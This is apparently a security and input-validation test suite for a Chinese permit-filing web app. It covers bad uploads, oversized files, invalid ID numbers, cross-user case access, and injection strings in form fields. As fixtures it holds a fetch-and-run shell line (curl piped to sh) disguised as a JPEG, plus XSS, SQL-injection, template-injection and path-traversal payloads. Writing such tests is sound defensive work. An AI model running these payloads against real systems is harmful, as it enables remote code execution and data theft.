// What people and programs send that is wrong. Each gets a sentence and a next step, and nothing
// that was right is lost.

import type { Page } from 'playwright-core';
import type { CaseView, DraftView, FilingReceipt } from '@yichuang/contracts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  accountOf,
  applicant,
  constructionForm,
  eventually,
  fileCase,
  items,
  jpegPage,
  logIn,
  logInStaff,
  openBrowser,
  pixelBomb,
  resident,
  sendZeros,
  staff,
  startServer,
  stranger,
  type Connection,
  type Refused,
  type TestBrowser,
  type TestServer,
} from './harness/index.ts';

const person = resident('tian-shulan');
const other = resident('shen-yiming');
const newcomer = resident('luo-jianguo');

let server: TestServer;
let browser: TestBrowser;
let owner: Connection;
let somebody: Connection;
let filed: FilingReceipt;

beforeAll(async () => {
  [server, browser] = await Promise.all([startServer(), openBrowser()]);
  owner = await applicant(server, person);
  somebody = await applicant(server, other);
  filed = await fileCase(owner, items.constructionPermit, constructionForm);
});
afterAll(() => Promise.all([browser.close(), server.stop()]));

/** Every refusal is a sentence and what to do next, in the reader's language. */
function expectSentence(body: Refused, code: string): void {
  expect(body.code).toBe(code);
  expect(body.detail).toMatch(/[\u4e00-\u9fff]{4,}.*。$/u);
  expect(body.nextStep).toMatch(/[\u4e00-\u9fff]{4,}.*。$/u);
}

describe('a file', () => {
  const uploadTo = (itemCode: string, materialId: string, name: string, bytes: Uint8Array) =>
    owner.upload<Refused>(
      `/api/my/uploads?${new URLSearchParams({ itemCode, materialId })}`,
      name,
      bytes,
    );
  const page = [items.constructionPermit, 'application'] as const;

  it('that says .jpg and is a script is known by its content', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://example.test/ | sh\n');
    const { status, body } = await uploadTo(...page, 'scan.jpg', script);
    expect(status).toBe(415);
    expectSentence(body, 'file-type-mismatch');
  });

  it('that begins like a picture and goes on as a web page cannot be opened', async () => {
    const start = (await jpegPage('x')).subarray(0, 300);
    const mixed = Buffer.concat([start, Buffer.from('<script>alert(1)</script>')]);
    const { status, body } = await uploadTo(...page, 'scan.jpg', mixed);
    expect(status).toBe(422);
    expectSentence(body, 'file-not-readable');
  });

  it('of 10,000 × 10,000 pixels is refused by its header', async () => {
    const bomb = await pixelBomb('png');
    expect(bomb.length).toBeLessThan(5 * 1024 * 1024);
    const { body } = await uploadTo(items.hygieneLicence, 'plans', 'plan.png', bomb);
    expectSentence(body, 'image-bomb');
    const { body: jpeg } = await uploadTo(...page, 'scan.jpg', await pixelBomb('jpeg'));
    expect(['image-bomb', 'file-too-large']).toContain(jpeg.code);
  });

  it.each([
    ['announced', true],
    ['not announced', false],
  ])('of 2 GB is cut off early, its length %s', async (_, isAnnounced) => {
    const query = new URLSearchParams({ itemCode: page[0], materialId: page[1] });
    const bytes = 2 * 1024 ** 3;
    const cut = await sendZeros(owner, `/api/my/uploads?${query}`, { bytes, isAnnounced });
    expect(cut.sentBytes).toBeLessThan(200 * 1024 ** 2);
    expect(cut.status ?? 413).toBeOneOf([413, 422]);
    const draft = await owner.send<DraftView>('POST', '/api/my/drafts', { itemCode: page[0] });
    const path = `/drafts/${draft.draftId}/materials/${page[1]}`;
    const onPage = await sendZeros(owner, path, { bytes, isAnnounced });
    expect(onPage.sentBytes).toBeLessThan(400 * 1024 ** 2);
    expect(onPage.status ?? 413).toBeOneOf([413, 422]);
    expect((await stranger(server).ask('GET', '/readyz')).status).toBe(200);
  });
});

describe('an identity number', () => {
  const citizenId = (digits17: string) => {
    const weights = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2];
    const sum = weights.reduce((total, weight, i) => total + weight * Number(digits17[i]), 0);
    return digits17 + '10X98765432'.charAt(sum % 11);
  };

  it('of somebody born on 30 February is refused in words, and the name stays', async () => {
    const page = await browser.newPage({ viewport: 'phone', baseUrl: server.url });
    await page.goto(`/items/${items.soleProprietor}/apply`);
    await logIn(page, server, newcomer);
    await page.getByLabel('姓名').fill(newcomer.name);
    await page.getByLabel('身份证号').fill(citizenId('99992119900230113'));
    await page.getByRole('button', { name: '保存并继续' }).click();
    await page.getByRole('alert').getByText('出生日期不存在').waitFor();
    expect(await page.getByLabel('姓名').inputValue()).toBe(newcomer.name);
    await page.getByLabel('身份证号').fill(newcomer.citizenId);
    await page.getByRole('button', { name: '保存并继续' }).click();
    await page.getByRole('button', { name: '开始填写' }).waitFor();
    await page.context().close();
  });

  it('with a wrong check digit is refused over the interface too', async () => {
    const wrong = { kind: 'natural', name: other.name, idNumber: citizenId('99992119900230113') };
    const { status, body } = await somebody.ask<Refused>('PUT', '/api/me/profile', wrong);
    expect(status).toBe(422);
    expect(body.detail).toMatch(/[\u4e00-\u9fff]{4,}/u);
  });
});

describe("someone else's case", () => {
  it('is answered exactly as one that does not exist', async () => {
    const unknown = crypto.randomUUID();
    for (const path of ['', '/receipt.json', '/withdraw', '/clocks/correction%231']) {
      const theirs = await somebody.ask<string>('GET', `/my/cases/${filed.caseId}${path}`);
      const none = await somebody.ask<string>('GET', `/my/cases/${unknown}${path}`);
      expect([theirs.status, none.status], path).toEqual([404, 404]);
      const neutral = (text: string) =>
        JSON.stringify(text).replaceAll(filed.caseId, '').replaceAll(unknown, '');
      expect(neutral(theirs.body), path).toBe(neutral(none.body));
    }
    const theirs = await somebody.ask<Refused>('GET', `/api/my/cases/${filed.caseId}`);
    const none = await somebody.ask<Refused>('GET', `/api/my/cases/${unknown}`);
    expect([theirs.status, none.status]).toEqual([404, 404]);
    expect(theirs.body.detail).toBe(none.body.detail);
  });

  it('cannot be followed with its number and a guessed password', async () => {
    const page = await browser.newPage({ viewport: 'desktop', baseUrl: server.url });
    const said: string[] = [];
    for (const number of [filed.number, '20200101999999']) {
      await page.goto('/track');
      await page.getByLabel('办件编号').fill(number);
      await page.getByLabel('查询密码').fill('12345678');
      await page.getByRole('main').getByRole('button', { name: '查询', exact: true }).click();
      said.push(await page.getByRole('alert').innerText());
    }
    expect(said[0]).toBe(said[1]);
    await page.context().close();
  });

  it('takes no act, no file and no document for another applicant', async () => {
    const command = { type: 'WithdrawCase', reason: 'not mine' };
    const path = `/api/my/cases/${filed.caseId}/commands`;
    const { status, body } = await somebody.ask<Refused>('POST', path, command);
    expect(status).toBe(404);
    expect(body.code).toBe('not-your-case');
    const cashier = await staff(server, 'wj-counter');
    expect((await cashier.ask('GET', `/api/cases/${filed.caseId}`)).status).toBe(404);
  });
});

describe('code in every field', () => {
  const nasty =
    `<img src=x onerror="window.broken=1">'; DROP TABLE cases; --` +
    ` #panic("x") $x$ {{7*7}} &amp; \\" 🀄𠮷`;
  const texts = [
    'legalRepresentative',
    'contactName',
    'projectName',
    'projectAddress',
    'surveyor',
    'surveyorLead',
    'designer',
    'designerLead',
    'contractor',
    'contractorLead',
    'supervisor',
    'supervisorLead',
    'remark',
  ];
  let caseId = '';
  let number = '';

  it('is stored and given back to the letter', async () => {
    const limits: Record<string, number> = { legalRepresentative: 60, contactName: 60 };
    const form = Object.fromEntries(
      texts.map((field) => [field, [...nasty].slice(0, limits[field] ?? 60).join('')]),
    );
    ({ caseId, number } = await fileCase(owner, items.constructionPermit, {
      ...constructionForm,
      ...form,
    }));
    const clerk = await staff(server, 'zj-counter');
    const view = await clerk.get<CaseView>(`/api/cases/${caseId}`);
    for (const field of texts) expect(view.form[field], field).toBe(form[field]);
  });

  it('stands on the letter as text: the receipt is made', async () => {
    const clerk = await staff(server, 'zj-counter');
    const receipt = await eventually('the receipt', async () => {
      const { documents } = await clerk.get<CaseView>(`/api/cases/${caseId}`);
      return documents.find(({ moment, issuedAt }) => moment === 'received' && issuedAt);
    });
    expect(receipt.bytes).toBeGreaterThan(1000);
  });

  it('is shown as text to the clerk and to the applicant, and runs nowhere', async () => {
    const desk = await browser.newPage({ viewport: 'desktop', baseUrl: server.url });
    await logInStaff(desk, server, accountOf('zj-counter'));
    await desk.goto(`/console/cases/${caseId}?tab=form`);
    await desk.getByText('DROP TABLE cases', { exact: false }).first().waitFor();
    const page = await ownPage();
    await page.goto(`/my/cases/${caseId}`);
    await page.getByText(number).first().waitFor();
    await page.goto(`/items?q=${encodeURIComponent(nasty)}`);
    await page.getByRole('heading', { name: 'DROP TABLE cases' }).waitFor();
    for (const each of [desk, page]) {
      expect(await each.evaluate('window.broken')).toBeUndefined();
      await each.context().close();
    }
  });

  it('in searches and addresses is a word that finds nothing, or clearly refused', async () => {
    const clerk = await staff(server, 'zj-counter');
    const anybody = stranger(server);
    for (const text of [nasty, "' OR 1=1 --", '%', '\\', '\u0000', '../../etc/passwd']) {
      const q = encodeURIComponent(text);
      const paths = [`/api/items?q=${q}`, `/items?q=${q}&theme=${q}`, `/c/${q}`, `/items/${q}`];
      for (const path of paths) {
        expect((await anybody.ask('GET', path)).status, path).toBeLessThan(500);
      }
      for (const path of [`/api/tasks?list=all&q=${q}`, `/api/cases/${q}`]) {
        expect((await clerk.ask('GET', path)).status, path).toBeLessThan(500);
      }
    }
  });

  async function ownPage(): Promise<Page> {
    const page = await browser.newPage({ viewport: 'phone', baseUrl: server.url });
    const [name = '', value = ''] = owner.cookie.split('=');
    await page.context().addCookies([{ name, value, url: server.url }]);
    return page;
  }
});
